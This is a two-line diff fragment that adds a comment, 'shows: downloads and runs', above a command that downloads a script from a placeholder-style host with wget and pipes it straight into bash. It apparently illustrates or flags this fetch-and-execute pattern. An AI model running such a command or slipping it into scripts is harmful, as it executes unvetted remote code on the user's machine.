@@ -1,0 +1,2 @@
+# shows: downloads and runs
+bash <(wget -qO- https://dl.example.net/s)
